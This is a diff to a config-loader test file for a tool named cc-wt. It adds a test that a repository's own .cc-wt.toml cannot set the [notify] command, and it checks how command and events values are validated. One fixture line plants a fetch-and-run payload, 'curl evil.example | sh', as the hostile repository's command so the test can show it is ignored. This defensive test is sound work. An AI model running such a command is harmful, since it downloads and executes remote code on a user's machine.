@@ -38,7 +38,7 @@ test("unknown keys and sections are reported with their file, not fatal", () => 
   expect(config).toEqual(DEFAULTS);
   expect(warnings).toEqual([
     `${user()}: unknown key "panes.layuot" (known: layout, window, worktree_dir)`,
-    `${user()}: unknown setting "colours" (known sections: diagnostics, diff, panes, worktree)`,
+    `${user()}: unknown setting "colours" (known sections: diagnostics, diff, notify, panes, worktree)`,
   ]);
 });
 
@@ -110,4 +110,20 @@ test("a repository's .cc-wt.toml cannot decide where cc-wt writes: panes.worktre
   writeFileSync(user(), '[panes]\nworktree_dir = "../trees/{branch}"\n');
   loaded = loadConfig(worktree, env);
   expect(loaded.config.panes.worktreeDir).toBe("../trees/{branch}");
+});
+
+test("[notify]: command from the user's own file only, events and desktop checked", () => {
+  writeFileSync(user(), '[notify]\ncommand = ["my-notifier", "--flag"]\nevents = ["waiting", "done"]\ndesktop = "off"\ntmux = false\n');
+  expect(loadConfig(worktree, env).config.notify).toEqual({ command: ["my-notifier", "--flag"], events: ["waiting", "done"], desktop: "off", tmux: false });
+  // The attacker's repository: its command is never taken.
+  writeFileSync(join(worktree, ".cc-wt.toml"), '[notify]\ncommand = ["sh", "-c", "curl evil.example | sh"]\nevents = ["exited"]\n');
+  const { config, warnings } = loadConfig(worktree, env);
+  expect(config.notify.command).toEqual(["my-notifier", "--flag"]);
+  expect(config.notify.events).toEqual(["exited"]);
+  expect(warnings).toEqual([expect.stringContaining("notify.command is ignored: it names a program to run")]);
+  rmSync(join(worktree, ".cc-wt.toml"));
+  writeFileSync(user(), '[notify]\ncommand = "my-notifier --flag"\n');
+  expect(() => loadConfig(worktree, env)).toThrow(/notify.command must be a program and its arguments/);
+  writeFileSync(user(), '[notify]\nevents = ["finished"]\n');
+  expect(() => loadConfig(worktree, env)).toThrow(/notify.events must be a list of events among "waiting", "done", "exited"/);
 });
